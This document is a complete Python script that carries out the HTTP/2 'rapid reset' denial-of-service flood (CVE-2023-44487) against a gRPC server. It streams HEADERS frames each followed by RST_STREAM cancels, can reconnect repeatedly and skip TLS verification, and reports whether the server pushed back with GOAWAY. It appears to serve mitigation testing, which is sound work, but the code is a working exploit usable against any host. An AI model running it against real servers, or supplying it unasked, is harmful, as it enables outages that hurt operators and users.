#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""grpc_flood.py - the HTTP/2 "rapid reset" flood (CVE-2023-44487) against a gRPC server.

One connection: the client preface, SETTINGS, then for stream ids 1, 3, 5, ... a HEADERS frame
(END_HEADERS, a gRPC request to the health method) immediately followed by RST_STREAM(CANCEL), as
fast as the socket takes them. A reader thread drains what the server sends and notes a GOAWAY.
Prints one JSON line: pairs sent, connections, seconds, goaway (the last GOAWAY's error code or
null), goaways (connections that got one), closed_by_server (every connection was).

Usage: grpc_flood.py HOST PORT PAIRS [--tls] [--reconnect]
--no-reset: HEADERS only, every stream left open (the same cost without RST_STREAM).
--reconnect: connect again each time the server closes the connection, until PAIRS are sent.
Needs python3-h2 (hpack) for /usr/bin/python3.
"""
import json
import socket
import ssl
import struct
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
T_HEADERS, T_RST, T_SETTINGS, T_GOAWAY = 1, 3, 4, 7
END_HEADERS = 0x4
CANCEL = 8


def frame(ftype, flags, sid, payload):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, sid) + payload


def header_block(authority):
    # Never-indexed literals (3-tuples with sensitive=True): the block leaves the server's dynamic
    # table untouched, so the same bytes are valid on every stream.
    hdrs = [(":method", "POST", True), (":scheme", "http", True),
            (":path", "/grpc.health.v1.Health/Check", True), (":authority", authority, True),
            ("content-type", "application/grpc", True), ("te", "trailers", True)]
    return hpack.Encoder().encode(hdrs)


class Reader(threading.Thread):
    def __init__(self, sock):
        super().__init__(daemon=True)
        self.sock, self.goaway, self.closed = sock, None, False

    def run(self):
        buf = b""
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    n = (buf[0] << 16) | (buf[1] << 8) | buf[2]
                    if len(buf) < 9 + n:
                        break
                    if buf[3] == T_GOAWAY and n >= 8 and self.goaway is None:
                        self.goaway = struct.unpack(">I", buf[13:17])[0]
                    buf = buf[9 + n:]
        except (OSError, ssl.SSLError):
            pass
        self.closed = True


def one_connection(host, port, pairs, tls, reset=True):
    """Floods one connection until `pairs` are sent or the server closes it; (sent, reader)."""
    sock = socket.create_connection((host, port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(sock, server_hostname=host)
    reader = Reader(sock)
    reader.start()
    block = header_block("%s:%d" % (host, port))
    sent = 0
    try:
        sock.sendall(PREFACE + frame(T_SETTINGS, 0, 0, b""))
        sid = 1
        while sent < pairs and not reader.closed:
            chunk = []
            for _ in range(min(500, pairs - sent)):
                chunk.append(frame(T_HEADERS, END_HEADERS, sid, block))
                if reset:
                    chunk.append(frame(T_RST, 0, sid, struct.pack(">I", CANCEL)))
                sid += 2
            sock.sendall(b"".join(chunk))
            sent += len(chunk) // (2 if reset else 1)
    except (OSError, ssl.SSLError):
        pass
    reader.join(2.0)
    try:
        sock.close()
    except OSError:
        pass
    return sent, reader


def main():
    host, port, pairs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    tls = "--tls" in sys.argv[4:]
    reconnect = "--reconnect" in sys.argv[4:]
    reset = "--no-reset" not in sys.argv[4:]
    start = time.monotonic()
    total, conns, goaways, all_closed, last = 0, 0, 0, True, None
    while total < pairs and conns < 1000:
        sent, reader = one_connection(host, port, pairs - total, tls, reset)
        total += sent
        conns += 1
        goaways += reader.goaway is not None
        all_closed = all_closed and reader.closed
        last = reader.goaway
        if not reconnect:
            break
    print(json.dumps({"pairs": total, "connections": conns, "seconds": round(time.monotonic() - start, 3),
                      "goaway": last, "goaways": goaways, "closed_by_server": all_closed}))


if __name__ == "__main__":
    main()
